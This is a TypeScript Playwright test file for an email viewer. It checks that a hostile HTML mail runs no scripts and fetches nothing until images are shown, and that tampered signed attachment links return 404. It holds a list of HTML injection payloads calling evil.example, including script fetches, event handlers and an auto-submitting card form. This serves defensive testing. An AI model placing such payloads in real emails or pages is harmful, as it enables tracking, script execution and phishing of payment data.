import { readFile } from 'node:fs/promises';
import type { BrowserContext } from 'playwright-core';
import { expect, test } from 'vitest';
import { waitFor } from '#tests/support/wait-for.ts';
import { prepareJourney } from './prepare-journey.ts';
import { HANNAH, openConversation, type Seat } from './steps.ts';

const journey = prepareJourney();
const PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/** Everything a mail may try: each of these would ask for an address of its own. */
const HOSTILE = `<!doctype html><html><head>
<script>fetch('https://evil.example/script')</script>
<link rel="stylesheet" href="https://evil.example/sheet.css"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/base/"><style>@import url(https://evil.example/import.css); p { background: url(https://evil.example/style.png) }</style>
</head><body onload="fetch('https://evil.example/onload')" background="https://evil.example/background.png">
<p style="background-image:url('https://evil.example/inline.png')">The bowl is cracked, see <b>below</b>.</p>
<img src="x" onerror="fetch('https://evil.example/onerror')"><svg onload="fetch('https://evil.example/svg')"><image href="https://evil.example/svg.png"/></svg>
<img srcset="https://evil.example/srcset.png 2x"><video poster="https://evil.example/poster.png" src="https://evil.example/film.mp4" autoplay></video>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<form action="https://evil.example/form"><input name="card" autofocus onfocus="this.form.submit()"><button>Pay</button></form>
<a href="javascript:fetch('https://evil.example/link')">click</a>
<img src="https://pictures.example/remote.png" alt="from outside"><img src="cid:bowl@mail" alt="inside">
</body></html>`;

async function deliver(): Promise<void> {
  const picture = { contentType: 'image/png', base64: PIXEL };
  await journey().mail({
    from: HANNAH,
    subject: 'Cracked',
    text: 'The bowl is cracked, see below.',
    html: HOSTILE,
    attachments: [
      { ...picture, filename: 'inside.png', contentId: 'bowl@mail' },
      {
        filename: 'receipt.pdf',
        contentType: 'application/pdf',
        base64: Buffer.from('%PDF-1.4 receipt').toString('base64'),
      },
    ],
  });
}

test('a mail’s HTML runs nothing and asks for nothing until its pictures are asked for', async () => {
  await deliver();
  const mara = await journey().sitDown();
  const outside = noteOutside(mara.page.context());
  await mara.page
    .context()
    .route('https://*/*.png', (route) =>
      route.fulfill({ contentType: 'image/png', body: Buffer.from(PIXEL, 'base64') }),
    );
  await openConversation(mara, 'Cracked');
  const mail = mara.app.getByRole('article').frameLocator('iframe');
  await mail.getByText('The bowl is cracked, see below.').waitFor();
  await pictureIsSeen(mara, 'inside');
  await mara.page.waitForTimeout(1500);
  expect(outside(), 'requests that left').toEqual([]);
  expect(await mail.locator('script, form, input, iframe, object, embed, video, svg, base[href], link').count()).toBe(
    0,
  );

  await mara.app.getByRole('button', { name: 'Show images' }).click();
  await pictureIsSeen(mara, 'from outside');
  // The background of a paragraph is a picture, too; nothing else is fetched.
  const pictures = ['https://evil.example/inline.png', 'https://pictures.example/remote.png'];
  expect([...new Set(outside())].sort()).toEqual(pictures);
});

test('an attachment is downloaded through its signed link, and a link that was changed leads nowhere', async () => {
  const mara = await journey().sitDown();
  await openConversation(mara, 'Cracked');
  const link = mara.app.getByRole('article').getByRole('link', { name: 'receipt.pdf' });
  const [download] = await Promise.all([mara.page.waitForEvent('download'), link.click()]);
  expect(download.suggestedFilename()).toBe('receipt.pdf');
  expect(await readFile(await download.path(), 'utf8')).toBe('%PDF-1.4 receipt');

  const url = new URL((await link.getAttribute('href')) ?? '');
  expect((await fetch(url)).status).toBe(200);
  for (const [name, value] of url.searchParams) {
    const other = new URL(url);
    other.searchParams.set(name, changed(value));
    expect((await fetch(other)).status, `with another ${name}`).toBe(404);
  }
  const elsewhere = new URL(url);
  elsewhere.pathname = changed(url.pathname);
  expect((await fetch(elsewhere)).status, 'another file').toBe(404);
  expect((await fetch(`${url.origin}${url.pathname}`)).status, 'without a signature').toBe(404);
});

const changed = (value: string) => value.slice(0, -1) + (value.endsWith('1') ? '2' : '1');

async function pictureIsSeen(seat: Seat, alt: string): Promise<void> {
  const picture = seat.app.getByRole('article').frameLocator('iframe').getByAltText(alt, { exact: true });
  await picture.waitFor({ state: 'attached' });
  await waitFor(`the picture ${alt}`, () => picture.evaluate((img) => (img as HTMLImageElement).naturalWidth > 0));
}

/** Requests to other hosts than this machine; Shopify's own preload of App Bridge apart. */
function noteOutside(context: BrowserContext): () => string[] {
  const urls: string[] = [];
  context.on('request', (request) => {
    const { protocol, hostname } = new URL(request.url());
    const known = ['localhost', '127.0.0.1', 'cdn.shopify.com'].includes(hostname);
    if (protocol.startsWith('http') && !known) urls.push(request.url());
  });
  return () => urls;
}
